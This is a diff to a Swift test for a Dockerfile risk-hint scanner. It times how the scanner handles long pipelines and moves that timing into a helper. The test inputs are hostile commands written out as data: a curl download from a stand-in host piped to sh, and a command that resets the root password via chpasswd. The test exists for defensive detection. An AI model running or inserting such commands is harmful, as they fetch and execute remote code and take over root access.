@@ -198,11 +198,10 @@ extension RiskHintsDockerfileRootTests {
     func longPipelines() {
         for stage in ["| sh ", "; echo root:x | chpasswd "] {
             func seconds(_ count: Int) -> Double {
-                let start = ContinuousClock.now
-                let found = adding("RUN curl -s https://x.example/i " + String(repeating: stage, count: count))
-                #expect(found.contains { $0.severity == .critical })
-                let elapsed = ContinuousClock.now - start
-                return Double(elapsed.components.seconds) + Double(elapsed.components.attoseconds) / 1e18
+                timed {
+                    let found = adding("RUN curl -s https://x.example/i " + String(repeating: stage, count: count))
+                    #expect(found.contains { $0.severity == .critical })
+                }
             }
             _ = seconds(500)  // warm up
             let small = seconds(2_000)
